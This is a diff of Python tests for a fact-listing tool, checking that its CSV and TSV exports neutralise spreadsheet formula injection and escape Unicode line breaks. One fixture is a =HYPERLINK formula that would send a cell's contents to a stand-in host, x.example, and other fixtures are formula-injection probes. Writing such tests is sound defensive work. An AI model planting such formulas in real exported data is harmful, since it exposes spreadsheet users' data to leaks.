@@ -56,3 +56,30 @@ def test_claims_and_quotes_need_a_letter_or_digit(tmp_path: Path) -> None:
         path = _fact_file(tmp_path, **{key: written})
         assert (f"{path}:2: extra: {key}: must hold at least one letter or digit"
                 in _one_error(run_process("list", *ONLY_FIXTURE, "--facts", str(path)), 2))
+
+
+# ------------------------------------------------------------ spreadsheets and TSV
+
+
+def test_csv_and_tsv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    path = _fact_file(tmp_path, claim='"=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Click\\")"',
+                      quote='"+the corridor"', place='"@SUM(A1:A9)"', unit='"-2+3"', value="-5",
+                      aliases='["\\tcmd", "\\rcmd"]')
+    fields = ["--fields", "claim,quote,place,unit,value,aliases"]
+    args = ["show", "extra", *ONLY_FIXTURE, "--facts", str(path), *fields]
+    csv_out = run_process(*args, "--format", "csv").stdout
+    assert csv_out.splitlines()[1] == (
+        '"\'=HYPERLINK(""http://x.example/?""&A1,""Click"")",\'+the corridor,\'@SUM(A1:A9),\'-2+3,-5,'
+        "'\tcmd;\\x0dcmd")  # a carriage return is shown as text (printable), a tab kept
+    tsv_out = run_process(*args, "--format", "tsv").stdout
+    assert tsv_out.splitlines()[1] == (
+        '\'=HYPERLINK("http://x.example/?"&A1,"Click")\t\'+the corridor\t\'@SUM(A1:A9)\t\'-2+3\t-5\t\'\\tcmd;\\\\x0dcmd')
+    raw = run_process("--raw-cells", *args, "--format", "csv").stdout
+    assert raw.splitlines()[1].startswith('"=HYPERLINK(""http://x.example/?""&A1,""Click"")",+the corridor,@SUM')
+
+
+def test_tsv_escapes_every_line_break_so_a_record_is_one_line(tmp_path: Path) -> None:
+    path = _fact_file(tmp_path, claim='"One\\u2028two\\u2029three\\u0085four."')
+    result = run_process("show", "extra", *ONLY_FIXTURE, "--facts", str(path), "--format", "tsv",
+                         "--fields", "id,claim")
+    assert result.stdout.encode("utf-8").splitlines() == [b"id\tclaim", b"extra\tOne\\u2028two\\u2029three\\\\x85four."]
